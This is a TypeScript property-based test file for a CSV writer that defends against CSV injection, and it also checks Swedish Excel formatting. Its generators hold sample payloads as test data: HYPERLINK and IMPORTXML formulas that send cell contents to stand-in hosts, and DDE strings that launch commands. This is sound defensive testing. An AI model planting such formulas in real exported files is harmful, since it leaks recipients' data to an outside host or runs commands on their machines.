import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { type CsvCell, csvDocument } from './csv.ts';

// OWASP "CSV injection": a cell that starts with a formula character becomes a live formula (or a DDE
// command) in every recipient's spreadsheet. The writer must hand every such text over as text.

const read = (csv: string): string[][] => parse(csv, { delimiter: ';', bom: true, relax_quotes: false });

/** What a spreadsheet may skip or fold before it decides that a cell is a formula. */
const ignorable = fc.constantFrom(
  ' ',
  '\u00a0',
  '\u3000',
  '\u2009',
  '\t',
  '\r',
  '\n',
  '\u200b',
  '\u200d',
  '\u2060',
  '\ufeff',
  '\u00ad',
  '\u202e',
  '\u0000',
  '\u001f',
);
const formulaCharacter = fc.constantFrom(
  '=',
  '+',
  '-',
  '@',
  '\uff1d',
  '\uff0b',
  '\uff0d',
  '\uff20',
  '\ufe66',
  '\ufe62',
  '\ufe63',
  '\ufe6b',
  '\u2212',
);
const payload = fc.constantFrom(
  'HYPERLINK("http://angripare.example/?"&A1;"Klicka")',
  "cmd|' /C calc'!A0",
  'SUM(1+1)*cmd|"/C notepad"!A1',
  '5',
  '3+2',
  'IMPORTXML(CONCAT("http://x.example/?";A1);"//a")',
  '',
);

/** A hostile text: any run of ignorable characters, a formula character, then anything. */
const hostile = fc
  .tuple(fc.array(ignorable, { maxLength: 4 }), formulaCharacter, payload, fc.string({ maxLength: 12 }))
  .map(([lead, start, body, tail]) => `${lead.join('')}${start}${body}${tail}`);

/** What a spreadsheet sees at the start of a cell, folded the way it may fold it. */
const startsAsFormula = (cell: string) => /^[\s\p{Cc}\p{Cf}]*[=+\-@\u2212]/u.test(cell.normalize('NFKC'));

test('every text that starts like a formula, also behind spaces, invisible or full-width characters, is written as text', () => {
  fc.assert(
    fc.property(fc.array(hostile, { minLength: 1, maxLength: 6 }), (cells) => {
      const [written] = read(csvDocument([cells]));
      assert.equal(written!.length, cells.length);
      written!.forEach((cell, i) => {
        assert.equal(cell, `'${cells[i]}`, 'prefixed with an apostrophe, otherwise as written');
        assert.ok(!startsAsFormula(cell), JSON.stringify(cell));
      });
    }),
    { numRuns: 2000 },
  );
});

test('text that looks like a negative number is text too; real numbers stay numbers with a decimal comma', () => {
  const [row] = read(csvDocument([['-5', '+46 54 61 00 00', -3, 2.5, -0.5, 0, null]]));
  assert.deepEqual(row, ["'-5", "'+46 54 61 00 00", '-3', '2,5', '-0,5', '0', '']);
  fc.assert(
    fc.property(fc.double({ noNaN: true, noDefaultInfinity: true }), (n) => {
      const [[cell]] = read(csvDocument([[n]])) as [[string]];
      assert.equal(cell, String(n).replace('.', ','));
    }),
  );
});

test('any other text comes out exactly as written, whatever quotes, semicolons or line breaks it holds', () => {
  const safe = fc
    .string({ unit: 'grapheme', maxLength: 30 })
    .filter((s) => !startsAsFormula(s) && !/^[\t\r]/.test(s));
  fc.assert(
    fc.property(
      fc.array(fc.array(safe, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 4 }),
      (rows) => {
        const width = rows[0]!.length;
        const table: CsvCell[][] = rows.map((r) => Array.from({ length: width }, (_, i) => r[i] ?? ''));
        assert.deepEqual(read(csvDocument(table)), table);
      },
    ),
    { numRuns: 500 },
  );
});

test('the shape Excel set to Swedish opens: a byte-order mark, semicolons and CRLF', () => {
  assert.equal(
    csvDocument([
      ['Dimension', 'Värde'],
      ['Kategori', 7],
    ]),
    '\uFEFFDimension;Värde\r\nKategori;7\r\n',
  );
});
